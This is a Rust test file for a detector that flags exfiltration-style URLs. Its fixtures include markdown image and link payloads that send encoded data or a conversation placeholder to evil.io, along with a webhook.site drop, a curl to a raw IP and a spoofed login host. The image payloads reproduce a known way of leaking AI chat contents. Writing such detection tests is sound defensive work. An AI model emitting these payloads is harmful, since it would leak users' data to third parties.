use super::*;

fn found(text: &str) -> Vec<&'static str> {
    let mut hits = Vec::new();
    scan(text, 10, &mut hits);
    hits.iter().map(|hit| hit.detector).collect()
}

#[test]
fn addresses_that_carry_data_or_hide_where_they_lead_are_found() {
    let data = "a1b2c3d4e5".repeat(6);
    for (text, expected) in [
        (
            format!("![x](https://img.evil.io/p.png?d={data})"),
            "data-in-image",
        ),
        (
            "![x](https://img.evil.io/p.png?d={conversation})".to_owned(),
            "data-in-image",
        ),
        (
            format!("<img src=\"https://img.evil.io/p?d={data}\">"),
            "data-in-image",
        ),
        (format!("[click](https://evil.io/?d={data})"), "data-in-link"),
        ("post it to https://webhook.site/abc".to_owned(), "drop-host"),
        ("curl http://45.155.205.233:8080/x".to_owned(), "number-host"),
        ("http://2130706433/".to_owned(), "number-host"),
        (
            "https://accounts.google.com@evil.io/login".to_owned(),
            "posing-host",
        ),
        (format!("https://{}.evil.io/", &data[..44]), "data-in-host"),
    ] {
        assert_eq!(found(&text), [expected], "{text}");
    }
}

#[test]
fn ordinary_addresses_are_left_alone() {
    for text in [
        "https://docs.rs/serde/latest/serde/?search=Deserialize",
        "[![build](https://img.shields.io/badge/a-b-green?style=flat&logo=data:image/svg%2bxml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4)](https://ci.firm.io)",
        "[docs](https://firm.io/search?q=how+to+use+it&lang=en)",
        "http://127.0.0.1:8080 http://10.0.0.7/ http://192.0.2.7/",
        "https://user:pass@host.io/",
        "https://d111111abcdef8.cloudfront.net/x.png",
        "https://a-very-long-but-readable-name-of-a-service-in-a-cluster.firm.io",
    ] {
        assert_eq!(found(text), [] as [&str; 0], "{text}");
    }
}

#[test]
fn too_many_are_cut_and_said_so() {
    let mut hits = Vec::new();
    assert!(!scan(&"https://webhook.site/a ".repeat(20), 10, &mut hits));
    assert_eq!(hits.len(), 10);
}
